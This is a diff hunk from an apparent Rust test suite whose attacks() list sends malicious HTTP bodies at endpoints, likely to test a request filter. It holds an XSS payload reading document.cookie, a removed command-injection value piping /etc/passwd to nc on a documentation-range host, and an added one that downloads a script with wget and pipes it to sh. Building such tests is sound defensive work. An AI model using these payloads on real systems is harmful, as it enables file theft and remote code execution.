@@ -36,7 +36,7 @@ fn attacks() -> Vec<(&'static str, Vec<u8>)> {
         ),
         ("json key", post("/api/orders", "application/json", br#"{"<script>alert(document.cookie)</script>":1}"#)),
         ("multipart", post("/upload", "multipart/form-data; boundary=b", multipart.as_bytes())),
-        ("plain text", post("/note", "text/plain", b"192.0.2.7; cat /etc/passwd | nc 192.0.2.1 4444")),
+        ("plain text", post("/note", "text/plain", b"anna; wget http://192.0.2.1/x.sh -O- | sh")),
         ("behind padding", post("/comments", "application/x-www-form-urlencoded", hidden.as_bytes())),
         (
             "malformed json",
